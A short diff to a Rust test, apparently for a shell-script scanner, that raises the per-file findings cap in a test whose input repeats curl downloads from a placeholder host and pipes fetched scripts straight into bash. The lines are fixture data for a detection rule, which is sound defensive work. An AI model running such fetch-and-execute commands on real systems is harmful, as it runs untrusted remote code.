@@ -590,7 +590,9 @@ mod tests {
                 "curl -o /tmp/f{i} https://x.example/f{i}\nbash <(curl -s https://x.example/p{i})\nsh /tmp/f{i}\n"
             ));
         }
-        let config = crate::config::Config::default();
+        // Every finding counts here, so lift the per-file cap (1000 by default).
+        let mut config = crate::config::Config::default();
+        config.max_findings_per_file = usize::MAX;
         let found: Vec<u32> = crate::engine::check_source("a.sh", src.as_bytes(), &config)
             .iter()
             .filter(|f| f.rule == RULE.id)
